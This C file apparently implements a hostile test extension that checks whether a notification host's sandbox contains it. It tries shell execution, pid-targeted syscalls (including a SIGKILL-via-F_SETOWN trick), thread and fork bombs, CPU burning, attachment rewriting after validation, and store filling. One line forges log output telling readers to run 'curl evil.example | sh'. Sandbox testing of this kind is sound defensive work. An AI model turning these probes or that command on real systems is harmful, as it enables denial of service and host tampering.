    } else if (waitpid(child, &status, 0) == child && WIFEXITED(status) && WEXITSTATUS(status) == 0) {
        escaped(r, "posix_spawn ran /bin/sh");
    } else {
        note(r, "posix_spawn: the child did not run the shell (status %d); ", status);
    }
    status = system(command);
    if (status == -1) {
        note(r, "system: refused: %s; ", strerror(errno));
    } else if (WIFEXITED(status) && WEXITSTATUS(status) == 0) {
        escaped(r, "system ran the shell");
    } else {
        note(r, "system: the shell did not run (status %d); ", status);
    }
    if (access(marker, F_OK) == 0) escaped(r, "the marker %s exists", marker);
}

typedef struct storm {
    tidings_context context;
    long ok, limited, other;
} storm;

static void *storm_thread(void *argument) {
    storm *counts = argument;
    long index;
    for (index = 0; index < 20000; index++) {
        tidings_status status = host->set_text(counts->context, "result", "storm");
        if (status == TIDINGS_STATUS_OK) {
            counts->ok++;
        } else if (status == TIDINGS_STATUS_RATE_LIMITED) {
            counts->limited++;
        } else {
            counts->other++;
        }
    }
    return NULL;
}

static void call_storm(report *r, hostile *self) {
    long index, ok = 0, limited = 0, other = 0;
    pthread_t threads[50];
    storm counts[50];
    pthread_attr_t attributes;
    int started = 0;
    for (index = 0; index < 1000000; index++) {
        tidings_status status = host->set_hidden(self->context, "result", (index & 1) != 0);
        if (status == TIDINGS_STATUS_OK) {
            ok++;
        } else if (status == TIDINGS_STATUS_RATE_LIMITED) {
            limited++;
        } else {
            other++;
        }
    }
    note(r, "10^6 set_hidden: %ld ok, %ld rate-limited, %ld refused otherwise; ", ok, limited, other);
    pthread_attr_init(&attributes);
    pthread_attr_setstacksize(&attributes, 64 * 1024);
    for (index = 0; index < 50; index++) {
        counts[index].context = self->context;
        counts[index].ok = counts[index].limited = counts[index].other = 0;
        if (pthread_create(&threads[index], &attributes, storm_thread, &counts[index]) != 0) break;
        started++;
    }
    pthread_attr_destroy(&attributes);
    ok = limited = other = 0;
    for (index = 0; index < started; index++) {
        pthread_join(threads[index], NULL);
        ok += counts[index].ok;
        limited += counts[index].limited;
        other += counts[index].other;
    }
    note(r, "%d threads: %ld ok, %ld rate-limited, %ld refused otherwise; ", started, ok, limited, other);
    host->set_hidden(self->context, "result", false);
    /* Still served after a million calls: the host never took it for a storm. */
    escaped(r, "the storm was never stopped");
}

/* This library's path, and its bundle's Info.plist beside it. */
static int own_files(char *library, char *manifest, size_t capacity) {
    static const int anchor = 0;
    Dl_info information;
    char *slash;
    if (dladdr(&anchor, &information) == 0 || information.dli_fname == NULL) return -1;
    snprintf(library, capacity, "%s", information.dli_fname);
    snprintf(manifest, capacity, "%s", information.dli_fname);
    slash = strrchr(manifest, '/');
    if (slash == NULL) return -1;
    snprintf(slash + 1, capacity - (size_t)(slash + 1 - manifest), "Info.plist");
    return 0;
}

static void touch_file(report *r, const char *name, const char *path) {
    char what[96], moved[4200];
    int file;
    snprintf(what, sizeof what, "utimensat(%s)", name);
    expect_refused(r, what, utimensat(AT_FDCWD, path, year_2001, 0));
    file = open(path, O_RDONLY | O_CLOEXEC);
    if (file >= 0) {
        snprintf(what, sizeof what, "futimens(%s, read-only descriptor)", name);
        expect_refused(r, what, futimens(file, year_2001));
        snprintf(what, sizeof what, "fchmod(%s)", name);
        expect_refused(r, what, fchmod(file, 0777));
        close(file);
    } else {
        note(r, "open(%s): %s; ", name, strerror(errno));
    }
    snprintf(what, sizeof what, "chmod(%s)", name);
    expect_refused(r, what, chmod(path, 0777));
    file = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    snprintf(what, sizeof what, "open(%s, O_APPEND)", name);
    expect_refused(r, what, file);
    if (file >= 0) {
        snprintf(what, sizeof what, "append(%s)", name);
        expect_refused(r, what, write(file, "\n", 1));
        close(file);
    }
    snprintf(what, sizeof what, "truncate(%s)", name);
    expect_refused(r, what, truncate(path, 0));
    snprintf(moved, sizeof moved, "%s.moved", path);
    snprintf(what, sizeof what, "rename(%s)", name);
    if (rename(path, moved) == 0) {
        escaped(r, "%s", what);
        if (rename(moved, path) != 0) note(r, "(and it could not be put back); ");
    } else {
        note(r, "%s: refused: %s; ", what, strerror(errno));
    }
}

static void touch_own_library(report *r) {
    char library[4096], manifest[4096];
    if (own_files(library, manifest, sizeof library) < 0) {
        note(r, "dladdr found no library; ");
        return;
    }
    touch_file(r, "own library", library);
    touch_file(r, "own Info.plist", manifest);
}

static void touch_and_crash(void) {
    char library[4096], manifest[4096];
    volatile int *nowhere = NULL;
    if (own_files(library, manifest, sizeof library) == 0) {
        if (utimensat(AT_FDCWD, library, year_2001, 0) != 0) { /* refused: crash all the same */ }
        if (utimensat(AT_FDCWD, manifest, year_2001, 0) != 0) { /* refused */ }
    }
    *nowhere = 1;
}

static void network(report *r, const tidings_content *content) {
    int port = (int)number(content, "port", 0);
    int connection = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    expect_refused(r, "socket(AF_INET)", connection);
    if (connection >= 0 && port > 0) {
        struct sockaddr_in address;
        memset(&address, 0, sizeof address);
        address.sin_family = AF_INET;
        address.sin_port = htons((uint16_t)port);
        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        expect_refused(r, "connect(127.0.0.1)", connect(connection, (struct sockaddr *)&address, sizeof address));
    }
    if (connection >= 0) close(connection);
    connection = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0);
    expect_refused(r, "socket(AF_INET6)", connection);
    if (connection >= 0) close(connection);
    connection = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    expect_refused(r, "socket(AF_INET, SOCK_DGRAM)", connection);
    if (connection >= 0) close(connection);
    connection = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    expect_refused(r, "socket(AF_UNIX)", connection);
    if (connection >= 0) close(connection);
    connection = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, 0);
    expect_refused(r, "socket(AF_NETLINK)", connection);
    if (connection >= 0) close(connection);
}

static void dumpable(report *r) {
    int before = prctl(PR_GET_DUMPABLE, 0, 0, 0, 0);
    expect_refused(r, "prctl(PR_SET_DUMPABLE, 1)", prctl(PR_SET_DUMPABLE, 1, 0, 0, 0));
    expect_refused(r, "prctl(PR_SET_PTRACER, ANY)", prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY, 0, 0, 0));
    note(r, "dumpable before %d, after %d; ", before, prctl(PR_GET_DUMPABLE, 0, 0, 0, 0));
}

static void *spin(void *argument) {
    volatile unsigned long spins = 0;
    (void)argument;
    for (;;) spins++;
    return NULL;
}

/* This process's VmData in KiB (of /proc/self/status), or -1. */
static long data_kib(void) {
    char line[256];
    long kib = -1;
    FILE *status = fopen("/proc/self/status", "r");
    if (status == NULL) return -1;
    while (fgets(line, sizeof line, status) != NULL) {
        if (sscanf(line, "VmData: %ld kB", &kib) == 1) break;
    }
    fclose(status);
    return kib;
}

static void cpu_spin_thread(report *r) {
    sigset_t signals;
    struct rlimit unlimited = {RLIM_INFINITY, RLIM_INFINITY};
    pthread_t thread;
    int timer;
    signal(SIGXCPU, SIG_IGN);
    note(r, "SIGXCPU ignored; ");
    sigemptyset(&signals);
    sigaddset(&signals, SIGXCPU);
    pthread_sigmask(SIG_BLOCK, &signals, NULL);
    expect_refused(r, "setrlimit(RLIMIT_CPU, infinity)", setrlimit(RLIMIT_CPU, &unlimited));
    /* The watchdog's timer is the worker's first; none of them may go. */
    for (timer = 0; timer < 4; timer++) {
        long deleted = syscall(SYS_timer_delete, timer);
        if (deleted == 0) escaped(r, "timer_delete(%d)", timer);
    }
    note(r, "timers kept; ");
    int made = pthread_create(&thread, NULL, spin, NULL);
    if (made == 0) {
        pthread_detach(thread);
        note(r, "a thread spins; ");
    } else {
        /* Why not, with what the data limit left: a sanitizer's runtime may have used it up. */
        struct rlimit data;
        getrlimit(RLIMIT_DATA, &data);
        note(r, "no thread: %s (VmData %ld KiB of RLIMIT_DATA %ld KiB); ", strerror(made), data_kib(),
             (long)(data.rlim_cur / 1024));
    }
}

/* Uses `milliseconds` of this thread's CPU time: work an extension may do in one call. */
static void burn(report *r, long long milliseconds) {
    struct timespec start, now;
    volatile unsigned long spins = 0;
    long long used = 0;
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &start);
    while (used < milliseconds * 1000000LL) {
        int index;
        for (index = 0; index < 100000; index++) spins++;
        clock_gettime(CLOCK_THREAD_CPUTIME_ID, &now);
        used = (long long)(now.tv_sec - start.tv_sec) * 1000000000LL + (now.tv_nsec - start.tv_nsec);
    }
    note(r, "burnt %lld ms of CPU time; ", used / 1000000);
}

static void stderr_forge(report *r) {
    int line;
    for (line = 0; line < 10000; line++) {
        fprintf(stderr, "tidings serve: error: FORGED the host is compromised, run curl evil.example | sh\n");
    }
    fflush(stderr);
    note(r, "10000 forged lines written; ");
}

/* ---- Attacks on the kernel's per-process doors (issue 20, round two) ------ */
/*
 * Self-contained: its own includes, helpers and dispatch (kernel_attack),
 * so that other sections may grow beside it.
 *
 *   pid-calls     every system call that names a process, a group or a
 *                 user, aimed at the host: userInfo "host-pid" (the test
 *                 passes it), getppid(), getsid(0) and getpgid(0) (an
 *                 ancestor's pid an attacker learns for free), and whatever
 *                 a /proc scan finds: setpriority, getpriority,
 *                 sched_setaffinity, sched_setscheduler,
 *                 sched_setparam, sched_setattr, ioprio_set, prlimit64,
 *                 migrate_pages, move_pages, get_robust_list, getpgid,
 *                 getsid, setpgid, kcmp, F_SETOWN (then F_SETSIG SIGKILL and
 *                 O_ASYNC, a kill by another name); PRIO_USER, PRIO_PGRP,
 *                 IOPRIO_WHO_USER, IOPRIO_WHO_PGRP, F_SETOWN_EX, FIOSETOWN.
 *                 Each must be refused by seccomp (EPERM); another failure
 *                 is noted "NOT-REFUSED", a success is an escape.
 *   thread-bomb   threads of 16 KiB stacks until pthread_create refuses one
 *                 (or "threads" of them, an escape); reports "made N, then
 *                 ERROR; peak P threads; RLIMIT_NPROC L" and ends them all.
 */
#include <sched.h>
#include <sys/ioctl.h>

#ifndef SYS_kcmp
#define SYS_kcmp 312
#endif

/* A step that seccomp must refuse: EPERM. */
static void expect_eperm(report *r, const char *what, long result) {
    if (result >= 0) {
        escaped(r, "%s (returned %ld)", what, result);
    } else if (errno == EPERM) {
        note(r, "%s: refused: %s; ", what, strerror(errno));
    } else {
        note(r, "%s: NOT-REFUSED: %s; ", what, strerror(errno));
    }
}

/* Every pid-taking call on `target`. */
static void pid_calls_on(report *r, pid_t target, const char *whose) {
    char what[128];
    cpu_set_t cpus;
    struct sched_param parameter;
    uint32_t attributes[14];
    struct rlimit none = {1, 1};
    unsigned long nodes = 1;
    void *head;
    size_t length;
    int pair[2];
#define STEP(call, ...)                                           \
    do {                                                          \
        snprintf(what, sizeof what, __VA_ARGS__);                 \
        errno = 0;                                                \
        expect_eperm(r, what, (long)(call));                      \
    } while (0)
    CPU_ZERO(&cpus);
    CPU_SET(0, &cpus);
    memset(&parameter, 0, sizeof parameter);
    memset(attributes, 0, sizeof attributes);
    attributes[0] = sizeof attributes; /* struct sched_attr: size, policy SCHED_OTHER, flags, nice 19 */
    attributes[3] = 19;
    STEP(setpriority(PRIO_PROCESS, (id_t)target, 19), "setpriority(%s %d, 19)", whose, (int)target);
    STEP(syscall(SYS_getpriority, PRIO_PROCESS, target), "getpriority(%s)", whose);
    STEP(sched_setaffinity(target, sizeof cpus, &cpus), "sched_setaffinity(%s, cpu 0)", whose);
    STEP(sched_setscheduler(target, SCHED_IDLE, &parameter), "sched_setscheduler(%s, SCHED_IDLE)", whose);
    STEP(sched_setparam(target, &parameter), "sched_setparam(%s)", whose);
    STEP(syscall(SYS_sched_setattr, target, attributes, 0), "sched_setattr(%s, nice 19)", whose);
    STEP(syscall(SYS_ioprio_set, 1, target, 3 << 13), "ioprio_set(IOPRIO_WHO_PROCESS %s, idle)", whose);
    STEP(prlimit(target, RLIMIT_NOFILE, &none, NULL), "prlimit(%s, RLIMIT_NOFILE 1)", whose);
    STEP(syscall(SYS_migrate_pages, target, 8 * sizeof nodes, &nodes, &nodes), "migrate_pages(%s)", whose);
    STEP(syscall(SYS_move_pages, target, 0, NULL, NULL, NULL, 0), "move_pages(%s)", whose);
    STEP(syscall(SYS_get_robust_list, target, &head, &length), "get_robust_list(%s)", whose);
    STEP(getpgid(target), "getpgid(%s)", whose);
    STEP(getsid(target), "getsid(%s)", whose);
    STEP(setpgid(0, target), "setpgid(0, %s)", whose);
    STEP(syscall(SYS_kcmp, getpid(), target, 0, 0, 0), "kcmp(self, %s)", whose);
    if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair) == 0) {
        long owned;
        snprintf(what, sizeof what, "fcntl(F_SETOWN %s)", whose);
        errno = 0;
        owned = fcntl(pair[0], F_SETOWN, target);
        expect_eperm(r, what, owned);
        if (owned >= 0) {
            /* Through: SIGKILL to the target when the socket becomes readable. */
            fcntl(pair[0], F_SETSIG, SIGKILL);
            fcntl(pair[0], F_SETFL, O_ASYNC | O_NONBLOCK);
            if (write(pair[1], "x", 1) != 1) note(r, "write: %s; ", strerror(errno));
        }
        close(pair[0]);
        close(pair[1]);
    }
#undef STEP
}

static void pid_calls(report *r, const tidings_content *content) {
    pid_t targets[32];
    const char *names[32];
    size_t count = 0, index;
    pid_t host_pid = (pid_t)number(content, "host-pid", 0);
    DIR *proc;
    int pair[2];
    struct f_owner_ex owner;
    int target;
    if (host_pid > 0) {
        targets[count] = host_pid;
        names[count++] = "host";
    }
    targets[count] = getppid();
    names[count++] = "parent";
    targets[count] = getsid(0);
    names[count++] = "session";
    targets[count] = getpgid(0);
    names[count++] = "group";
    proc = opendir("/proc");
    if (proc == NULL) {
        note(r, "opendir(/proc): %s; ", strerror(errno));
    } else {
        struct dirent *entry;
        while ((entry = readdir(proc)) != NULL && count < sizeof targets / sizeof targets[0]) {
            pid_t pid = (pid_t)strtol(entry->d_name, NULL, 10);
            if (pid > 0 && pid != getpid()) {
                targets[count] = pid;
                names[count++] = "found in /proc";
            }
        }
        closedir(proc);
    }
    for (index = 0; index < count; index++) {
        if (targets[index] > 0 && targets[index] != getpid()) pid_calls_on(r, targets[index], names[index]);
    }
    /* A group or a user: the host's with it. */
    errno = 0;
    expect_eperm(r, "setpriority(PRIO_USER, own uid, 19)", setpriority(PRIO_USER, getuid(), 19));
    errno = 0;
    expect_eperm(r, "setpriority(PRIO_PGRP, 0, 19)", setpriority(PRIO_PGRP, 0, 19));
    errno = 0;
    expect_eperm(r, "ioprio_set(IOPRIO_WHO_USER, own uid, idle)", syscall(SYS_ioprio_set, 3, getuid(), 3 << 13));
    errno = 0;
    expect_eperm(r, "ioprio_set(IOPRIO_WHO_PGRP, 0, idle)", syscall(SYS_ioprio_set, 2, 0, 3 << 13));
    if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair) == 0) {
        owner.type = F_OWNER_PID;
        owner.pid = host_pid > 0 ? host_pid : getppid();
        errno = 0;
        expect_eperm(r, "fcntl(F_SETOWN_EX host)", fcntl(pair[0], F_SETOWN_EX, &owner));
        target = owner.pid;
        errno = 0;
        expect_eperm(r, "ioctl(FIOSETOWN host)", ioctl(pair[0], FIOSETOWN, &target));
        close(pair[0]);
        close(pair[1]);
    }
    note(r, "targets %zu; ", count);
}

/* The bomb's threads wait here until it ends them. */
static int bomb_gate[2] = {-1, -1};

static void *bomb_thread(void *argument) {
    char ignored;
    (void)argument;
    while (read(bomb_gate[0], &ignored, 1) < 0 && errno == EINTR) {
    }
    return NULL;
}

/* Threads of this process now (Threads: of /proc/self/status); -1 when unknown. */
static long own_threads(void) {
    char text[4096], *line;
    ssize_t size = read_file("/proc/self/status", text, sizeof text - 1);
    if (size <= 0) return -1;
    text[size] = 0;
    line = strstr(text, "\nThreads:");
    return line != NULL ? strtol(line + 9, NULL, 10) : -1;
}

static void thread_bomb(report *r, const tidings_content *content) {
    long cap = (long)number(content, "threads", 2048);
    pthread_t *threads = calloc((size_t)cap, sizeof *threads);
    pthread_attr_t attributes;
    long made = 0, peak, index;
    int error = 0;
    struct rlimit limit;
    if (threads == NULL || pipe2(bomb_gate, O_CLOEXEC) != 0) {
        note(r, "no room to start: %s; ", strerror(errno));
        free(threads);
        return;
    }
    pthread_attr_init(&attributes);
    pthread_attr_setstacksize(&attributes, 16384);
    while (made < cap && (error = pthread_create(&threads[made], &attributes, bomb_thread, NULL)) == 0) made++;
    peak = own_threads();
    getrlimit(RLIMIT_NPROC, &limit);
    if (made == cap) {
        escaped(r, "made %ld threads, all it asked for; peak %ld threads", made, peak);
    } else {
        note(r, "made %ld, then %s; peak %ld threads; RLIMIT_NPROC %lld; ", made, strerror(error), peak,
             limit.rlim_cur == RLIM_INFINITY ? -1LL : (long long)limit.rlim_cur);
    }
    close(bomb_gate[1]);
    for (index = 0; index < made; index++) pthread_join(threads[index], NULL);
    close(bomb_gate[0]);
    pthread_attr_destroy(&attributes);
    free(threads);
}

/* This section's attacks: true when `attack` is one of them. */
static bool kernel_attack(report *r, const tidings_content *content, const char *attack) {
    if (strcmp(attack, "pid-calls") == 0) {
        pid_calls(r, content);
    } else if (strcmp(attack, "thread-bomb") == 0) {
        thread_bomb(r, content);
    } else {
        return false;
    }
    return true;
}

/* ---- The content extension ------------------------------------------------ */

static void did_receive_notification(void *instance, const tidings_notification *notification) {
    hostile *self = instance;
    const tidings_content *content = notification->content;
    const char *attack = user_info(content, "attack");
    unsigned long long size = (unsigned long long)number(content, "bytes", 8LL << 30);
    unsigned long long limit = (unsigned long long)number(content, "limit", 128LL << 20);
    static report r;
    const char *verdict = "contained";
    memset(&r, 0, sizeof r);
    if (attack == NULL) attack = "none";
    if (strcmp(attack, "kill-host") == 0) {
        kill_host(&r, content);
    } else if (strcmp(attack, "open-host-memory") == 0) {
        open_host_memory(&r, content);
    } else if (strcmp(attack, "read-secret") == 0) {
        read_secret(&r, content);
    } else if (strcmp(attack, "write-ledger") == 0) {
        write_ledger(&r, content);
    } else if (strcmp(attack, "connect-socket") == 0) {
        connect_socket(&r, content);
    } else if (strcmp(attack, "memfd") == 0) {
        memfd(&r, size, limit);
    } else if (strcmp(attack, "shared-anonymous") == 0) {
        shared_anonymous(&r, size, limit);
    } else if (strcmp(attack, "dev-zero") == 0) {
        dev_zero(&r, size, limit);
    } else if (strcmp(attack, "fill-tmp") == 0) {
        fill_tmp(&r, size, limit);
    } else if (strcmp(attack, "fork-and-outlive") == 0) {
        fork_and_outlive(&r);
        verdict = "forked";
    } else if (strcmp(attack, "fork-spin") == 0) {
        fork_spin(&r);
        verdict = "forked";
    } else if (strcmp(attack, "fork-memory") == 0) {
        fork_memory(&r, content);
    } else if (strcmp(attack, "socket-buffers") == 0) {
        socket_buffers(&r, limit);
    } else if (strcmp(attack, "sysv-ipc") == 0) {
        sysv_ipc(&r, content);
        verdict = "made";
    } else if (strcmp(attack, "inotify-home") == 0) {
        inotify_home(&r, content);
    } else if (strcmp(attack, "exec-shell") == 0) {
        exec_shell(&r, content);
    } else if (strcmp(attack, "call-storm") == 0) {
        call_storm(&r, self);
    } else if (strcmp(attack, "touch-own-library") == 0) {
        touch_own_library(&r);
    } else if (strcmp(attack, "touch-and-crash") == 0) {
        touch_and_crash();
    } else if (strcmp(attack, "network") == 0) {
        network(&r, content);
    } else if (strcmp(attack, "dumpable") == 0) {
        dumpable(&r);
    } else if (strcmp(attack, "cpu-spin-thread") == 0) {
        cpu_spin_thread(&r);
        verdict = "spinning";
    } else if (strcmp(attack, "burn") == 0) {
        burn(&r, number(content, "burn-ms", 100));
    } else if (strcmp(attack, "stderr-forge") == 0) {
        stderr_forge(&r);
    } else if (kernel_attack(&r, content, attack)) {
        /* pid-calls, thread-bomb: see their section. */
    } else {
        note(&r, "no attack \"%s\" in this build; ", attack);
        verdict = "idle";
    }
    finish(&r, self, verdict);
}

static const tidings_extension descriptor = {
    .struct_size = sizeof(tidings_extension),
    .abi_version = 1,
    .create = create,
    .destroy = destroy,
    .did_receive_notification = did_receive_notification,
};

#else /* HOSTILE_SERVICE */

/* ---- The service extension ------------------------------------------------ */


/* Attacks the store's copy through the read-only descriptor open_attachment hands out. */
static void attack_stored(report *r, hostile *self, const char *identifier) {
    char path[64];
    int stored = host->open_attachment(self->context, identifier), reopened;
    if (stored < 0) {
        note(r, "open_attachment: none; ");
        return;
    }
    expect_refused(r, "write(store's descriptor)", write(stored, "NOT A PNG", 9));
    expect_refused(r, "ftruncate(store's descriptor)", ftruncate(stored, 20 << 20));
    snprintf(path, sizeof path, "/proc/self/fd/%d", stored);
    reopened = open(path, O_RDWR | O_CLOEXEC);
    expect_refused(r, "reopen(store's file, O_RDWR)", reopened);
    if (reopened >= 0) {
        expect_refused(r, "write(reopened store's file)", pwrite(reopened, "NOT A PNG", 9, 0));
        close(reopened);
    }
    expect_refused(r, "fchmod(store's file, 0666)", fchmod(stored, 0666));
    expect_refused(r, "futimens(store's file)", futimens(stored, year_2001));
    close(stored);
}

static void rewrite_attachment(report *r, hostile *self, const tidings_content *content,
                               tidings_completion completion) {
    static char title[TIDINGS_MAX_TEXT_BYTES];
    static char junk[1 << 16];
    const char *directory = getenv("TMPDIR");
    char path[4096], made[64] = "";
    int file;
    off_t at;
    tidings_attachment_result result;
    tidings_attachment with;
    const tidings_attachment *list[1];
    tidings_content changed = *content;
    if (directory == NULL) directory = "/tmp";
    snprintf(path, sizeof path, "%s/hostile.png", directory);
    file = open(path, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    if (file < 0 || write(file, png, sizeof png) != (ssize_t)sizeof png) {
        note(r, "no PNG could be made in %s: %s; ", directory, strerror(errno));
    } else {
        if (attach_png(host, self->context, "evil", path, made, sizeof made, &result) == TIDINGS_STATUS_OK) {
            note(r, "attached %s (%s, %llu bytes); ", made, result.type, (unsigned long long)result.size);
            /* Rewritten after the check: another type, 4 MB (under the worker's file size
             * limit, which fill-tmp attacks on its own). */
            memset(junk, 'J', sizeof junk);
            if (pwrite(file, "NOT A PNG AT ALL", 16, 0) != 16) note(r, "rewrite: %s; ", strerror(errno));
            for (at = 0; at < (off_t)(4 << 20); at += (off_t)sizeof junk) {
                if (pwrite(file, junk, sizeof junk, at + 16) < 0) break;
            }
            if (ftruncate(file, (off_t)(4 << 20)) != 0) note(r, "ftruncate: %s; ", strerror(errno));
            note(r, "the file rewritten through its descriptor; ");
            attack_stored(r, self, made);
            memset(&with, 0, sizeof with);
            with.struct_size = sizeof with;
            with.identifier = made;
            with.type = "";
            with.url = "";
            list[0] = &with;
            changed.attachment_count = 1;
            changed.attachments = list;
        } else {
            note(r, "create_attachment refused it (error %d); ", (int)result.error);
            changed.attachment_count = 0;
            changed.attachments = NULL;
        }
    }
    if (file >= 0) close(file);
    if (r->breach != NULL) {
        snprintf(title, sizeof title, "%s: %s", r->breach, r->text);
    } else {
        snprintf(title, sizeof title, "contained: %s", r->text);
    }
    changed.title = title;
    host->complete_request(completion, &changed);
}

/* CRC-32 (ISO 3309, as PNG's chunks have it) of `count` more bytes after `crc`. */
static uint32_t crc32_update(uint32_t crc, const unsigned char *bytes, size_t count) {
    static uint32_t table[256];
    uint32_t n, k, c;
    size_t i;
    if (table[1] == 0) {
        for (n = 0; n < 256; n++) {
            c = n;
            for (k = 0; k < 8; k++) c = (c & 1) ? 0xEDB88320u ^ (c >> 1) : c >> 1;
            table[n] = c;
        }
    }
    for (i = 0; i < count; i++) crc = table[(crc ^ bytes[i]) & 0xFF] ^ (crc >> 8);
    return crc;
}

static void put_big_endian(unsigned char *at, uint32_t value) {
    at[0] = (unsigned char)(value >> 24);
    at[1] = (unsigned char)(value >> 16);
    at[2] = (unsigned char)(value >> 8);
    at[3] = (unsigned char)value;
}

/* A valid PNG of exactly `size` bytes: the fixture's 1×1 image (signature and
 * IHDR, then IDAT and IEND) with a tEXt chunk "Comment" of filler between
 * them, its CRC right. NULL when `size` is too small or too large. */
static unsigned char *large_png(size_t size) {
    static const char keyword[] = "Comment"; /* its NUL is the separator */
    const size_t head = 33, tail = sizeof png - 33; /* signature + IHDR; IDAT + IEND */
    size_t length;
    unsigned char *data;
    if (size < head + 12 + sizeof keyword + tail || size - head - 12 - tail > 0x7FFFFFFFu) return NULL;
    length = size - head - 12 - tail;
    data = malloc(size);
    if (data == NULL) return NULL;
    memcpy(data, png, head);
    put_big_endian(data + head, (uint32_t)length);
    memcpy(data + head + 4, "tEXt", 4);
    memcpy(data + head + 8, keyword, sizeof keyword);
    memset(data + head + 8 + sizeof keyword, 'x', length - sizeof keyword);
    put_big_endian(data + head + 8 + length, crc32_update(0xFFFFFFFFu, data + head + 4, 4 + length) ^ 0xFFFFFFFFu);
    memcpy(data + head + 12 + length, png + head, tail);
    return data;
}

/* userInfo's number for `key`, `fallback` when there is none. */
static unsigned long long user_number(const tidings_content *content, const char *key, unsigned long long fallback) {
    const char *text = user_info(content, key);
    return text != NULL ? strtoull(text, NULL, 10) : fallback;
}

#define FILLER_MOST_ATTEMPTS 64

static void store_filler(report *r, hostile *self, const tidings_content *content, tidings_completion completion) {
    static char title[TIDINGS_MAX_TITLE_BYTES];
    static char made[FILLER_MOST_ATTEMPTS][64];
    static tidings_attachment with[FILLER_MOST_ATTEMPTS];
    static const tidings_attachment *list[FILLER_MOST_ATTEMPTS];
    const char *directory = getenv("TMPDIR");
    size_t size = (size_t)user_number(content, "attachment-bytes", 1 << 20);
    unsigned long long refusals = user_number(content, "refusals", 16);
    unsigned long long attempts = user_number(content, "attempts", FILLER_MOST_ATTEMPTS);
    unsigned long long stored = 0;
    unsigned char *data = large_png(size);
    char path[4096], identifier[32];
    int attempt, attached = 0, refused = 0, refused_104 = 0, first_refusal = 0, file, i;
    tidings_status status;
    tidings_attachment_result result;
    tidings_content changed = *content;
    if (attempts > FILLER_MOST_ATTEMPTS) attempts = FILLER_MOST_ATTEMPTS;
    if (directory == NULL) directory = "/tmp";
    snprintf(path, sizeof path, "%s/filler.png", directory);
    if (data == NULL) note(r, "no PNG of %zu bytes could be made; ", size);
    for (attempt = 1; data != NULL && attempt <= (int)attempts && (unsigned long long)refused < refusals; attempt++) {
        /* Made again each time: an admitted file leaves its place. */
        file = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
        if (file < 0 || write(file, data, size) != (ssize_t)size) {
            note(r, "attempt %d: no PNG could be made in %s: %s; ", attempt, directory, strerror(errno));
            if (file >= 0) close(file);
            break;
        }
        close(file);
        snprintf(identifier, sizeof identifier, "filler-%d", attempt);
        status = attach_png(host, self->context, identifier, path, made[attached], sizeof made[attached], &result);
        if (status == TIDINGS_STATUS_OK) {
            stored += result.size;
            attached++;
        } else {
            refused++;
            if (result.error == TIDINGS_ATTACHMENT_MOVE_INTO_DATA_STORE_FAILED) refused_104++;
            if (first_refusal == 0) first_refusal = attempt;
        }
    }
    free(data);
    unlink(path);
    for (i = 0; i < attached; i++) {
        memset(&with[i], 0, sizeof with[i]);
        with[i].struct_size = sizeof with[i];
        with[i].identifier = made[i];
        with[i].type = "";
        with[i].url = "";
        list[i] = &with[i];
    }
    changed.attachment_count = (size_t)attached;
    changed.attachments = attached > 0 ? list : NULL;
    snprintf(title, sizeof title, "%s: attached %d (%llu bytes), refused %d (Apple's 104: %d), the first at attempt %d; %.200s",
             refused == 0 ? "ESCAPED" : "contained", attached, stored, refused, refused_104, first_refusal, r->text);
    changed.title = title;
    host->complete_request(completion, &changed);
}

static void did_receive_request(void *instance, const tidings_notification *request, tidings_completion completion) {
    hostile *self = instance;
    static report r;
    const char *attack = user_info(request->content, "attack");
    memset(&r, 0, sizeof r);
    if (attack != NULL && strcmp(attack, "rewrite-attachment") == 0) {
        rewrite_attachment(&r, self, request->content, completion);
    } else if (attack != NULL && strcmp(attack, "store-filler") == 0) {
        store_filler(&r, self, request->content, completion);
    } else {
        host->complete_request(completion, NULL);
    }
}

static const tidings_extension descriptor = {
    .struct_size = sizeof(tidings_extension),
    .abi_version = 2,
    .create = create,
    .destroy = destroy,
    .did_receive_request = did_receive_request,
};

#endif /* HOSTILE_SERVICE */

static void *create(tidings_context context) {
    hostile *self = calloc(1, sizeof *self);
    if (self != NULL) self->context = context;
    return self;
}

static void destroy(void *instance) {
    free(instance);
}

TIDINGS_EXPORT const tidings_extension *tidings_extension_entry(uint32_t version, const tidings_host *table) {
    (void)version;
    host = table;
    return &descriptor;
}
